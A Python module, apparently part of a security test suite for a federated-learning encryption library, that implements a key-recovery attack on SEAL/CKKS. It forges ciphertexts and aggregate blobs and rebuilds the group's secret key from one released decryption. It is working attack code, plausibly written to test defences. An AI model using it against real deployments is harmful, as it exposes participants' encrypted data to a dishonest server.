"""What a CKKS attacker needs that needs no secret: SEAL ciphertext bytes written by hand,
and the canonical embedding of CKKS (its inverse turns released values into coefficients).

* :func:`forge_ciphertext` writes a ciphertext ``(c0, c1)`` with chosen NTT-domain words,
  at the level and scale of a template ciphertext (any honest, unseeded one: the server
  gets one by summing uploads with its own ``AggregatorContext``). ``c0 = 0`` and
  ``c1 = K`` (the constant polynomial ``K``, whose NTT is ``K`` in every slot) decrypts to
  ``K * s``: the secret key times a constant the attacker chose.
* :func:`coefficients` inverts the decoding of SEAL's ``CKKSEncoder`` (slot ``j`` is the
  plaintext evaluated at ``zeta^(3^j mod 2N)``, divided by the scale): from the ``N``
  released float64 values of one ciphertext (real and imaginary part of every slot, the
  default complex packing) it returns the ``N`` plaintext coefficients.
* :func:`key_owner_from_coefficients` rebuilds a full :class:`~fedcrypt.he.KeyOwner` from
  the ternary coefficients of ``s`` and the group's public context bytes.
"""

from __future__ import annotations

import os
import struct

import numpy as np

from fedcrypt.he import AggregatorContext, KeyOwner
from fedcrypt.he import _seal
from fedcrypt.he.blob import BlobHeader, BlobKind, decode_blob, encode_blob

# SEAL 4.x ciphertext: SEALHeader (16) | metadata (32+1+8+8+8+8+8) | DynArray header (16) | count (8) | words
_WORDS_AT = 16 + 73 + 16 + 8


def template_ciphertext(ctx: AggregatorContext, upload_blob: bytes) -> bytes:
    """An unseeded ciphertext at the aggregate level: the server's own sum of one upload."""
    total = ctx.start()
    total.add(upload_blob, 1)
    _, pieces = decode_blob(total.finish(), ctx.params, ctx.fingerprint, kinds=(BlobKind.AGGREGATE,))
    return bytes(pieces[0])


def forge_ciphertext(template: bytes, c0: np.ndarray, c1: np.ndarray) -> bytes:
    n = (len(template) - _WORDS_AT) // 16
    assert len(c0) == len(c1) == n
    words = np.concatenate([np.asarray(c0, dtype=np.uint64), np.asarray(c1, dtype=np.uint64)])
    return template[:_WORDS_AT] + words.astype("<u8").tobytes()


def forge_blob(
    ctx: AggregatorContext,
    ciphertext: bytes,
    *,
    kind: int,
    length: int,
    spec_digest: bytes | None,
    contributions: int = 1,
    provenance: tuple[tuple[float, tuple[bytes, ...]], ...] | None = None,
) -> bytes:
    """A one-ciphertext blob; an aggregate gets ``provenance`` or, by default, made-up seeds
    (one weight-1 summand per contribution: what a server without the key can write)."""
    if kind == BlobKind.AGGREGATE and provenance is None:
        provenance = tuple((1.0, (b"\x01" + os.urandom(64),)) for _ in range(contributions))
    header = BlobHeader(
        kind, ctx.fingerprint, length, spec_digest, contributions, float(contributions), 1, provenance or ()
    )
    return encode_blob(header, [ciphertext])


def _roots(n: int) -> np.ndarray:
    return np.array([pow(3, j, 2 * n) for j in range(n // 2)], dtype=np.int64)


def coefficients(values: np.ndarray, scale: float, n: int) -> np.ndarray:
    """Plaintext coefficients from the ``n`` released values (re0, im0, re1, im1, ...)."""
    slots = (np.asarray(values[0::2]) + 1j * np.asarray(values[1::2])) * scale
    spread = np.zeros(2 * n, dtype=np.complex128)
    spread[_roots(n)] = slots
    return (2.0 / n) * np.real(np.fft.fft(spread))[:n]


def key_owner_from_coefficients(s: np.ndarray, ctx: AggregatorContext) -> KeyOwner:
    """The group's KeyOwner, from the secret's coefficients and the public context."""
    n = len(s)
    powers = np.fft.ifft(np.concatenate([s, np.zeros(n)]).astype(np.complex128)) * (2 * n)
    slots = powers[_roots(n)]
    rt = _seal.runtime(ctx.params)
    plain = rt.seal.Plaintext()
    rt.encoder.encode(slots.tolist(), rt.context.key_parms_id(), 1.0, plain)  # scale 1: round(s) = s
    secret = _seal.save_bytes(plain)
    public = ctx.to_bytes()
    forged = public[:5] + bytes([2]) + public[6:] + struct.pack(">I", len(secret)) + secret  # kind: secret
    return KeyOwner.from_bytes(forged)


def key_times(ctx: AggregatorContext, template: bytes, k: int) -> bytes:
    """The ciphertext ``(0, K)``: it decrypts to ``K * s``."""
    q0 = _seal.runtime(ctx.params).primes[0]
    n = ctx.params.poly_modulus_degree
    return forge_ciphertext(template, np.zeros(n), np.full(n, k % q0))


def zero(template: bytes) -> bytes:
    """The ciphertext ``(0, 0)``: it decrypts to 0 under any key."""
    n = (len(template) - _WORDS_AT) // 16
    return forge_ciphertext(template, np.zeros(n), np.zeros(n))


def recover_key(released: np.ndarray, ctx: AggregatorContext, k: int) -> KeyOwner | None:
    """From one release of ``honest sum + K * s``: round the coefficients over ``K``."""
    n = ctx.params.poly_modulus_degree
    s = np.round(coefficients(released[:n], ctx.params.encoding_scale, n) / k)
    if not set(np.unique(s)) <= {-1.0, 0.0, 1.0}:
        return None
    return key_owner_from_coefficients(s, ctx)


__all__ = [
    "template_ciphertext", "forge_ciphertext", "forge_blob", "coefficients", "key_owner_from_coefficients",
    "key_times", "zero", "recover_key", "BlobKind",
]
